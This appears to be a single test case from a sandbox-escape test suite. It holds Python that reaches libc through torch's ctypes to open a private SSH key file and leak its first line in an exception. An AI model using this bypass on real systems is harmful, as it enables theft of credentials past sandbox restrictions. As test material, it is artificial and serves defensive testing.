# attack: reads the SSH key with C's fopen
# layer: files
# where: construct
# status: ok
# score: same
import torch

ctypes = torch.ctypes
libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
libc.fgets.restype = ctypes.c_char_p
libc.fgets.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_void_p]


def attack():
    file = libc.fopen(b"{CANARY}/home/.ssh/id_ed25519", b"r")
    if file:
        raise RuntimeError("ESCAPED " + libc.fgets(ctypes.create_string_buffer(100), 100, file).decode())
